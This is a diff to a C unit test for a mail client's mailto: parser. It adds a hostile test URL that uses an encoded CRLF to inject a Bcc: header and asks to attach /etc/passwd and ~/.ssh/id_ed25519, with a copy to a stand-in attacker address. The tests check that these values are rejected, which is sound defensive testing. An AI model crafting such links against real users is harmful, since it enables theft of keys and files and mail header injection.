@@ -724,6 +724,11 @@ START_TEST(reply_hostile)
 }
 END_TEST
 
+/*
+ * SECURITY.md #18 (attach=, attachment= and unknown headers give no
+ * attachment and no header) and #19 (an encoded CRLF in subject= adds
+ * no Bcc: the Subject stays one line).
+ */
 START_TEST(mailto)
 {
 	struct draft	 d;
@@ -733,7 +738,8 @@ START_TEST(mailto)
 	ck_assert_int_eq(compose_mailto("mailto:bob@example.net,carol@"
 	    "example.net?cc=dave@example.net&subject=Hi%20there%0D%0ABcc:%20"
 	    "eve@evil&body=line1%0D%0Aline2&attach=/etc/passwd&bcc=eve@evil"
-	    "&X-Evil=1&in-reply-to=%3Cm@x%3E", &d, NULL), 0);
+	    "&attachment=~/.ssh/id_ed25519&X-Evil=1&in-reply-to=%3Cm@x%3E", &d,
+	    NULL), 0);
 	ck_assert_str_eq(d.to, "bob@example.net,carol@example.net");
 	ck_assert_str_eq(d.cc, "dave@example.net");
 	ck_assert_ptr_null(strchr(d.subject, '\r'));
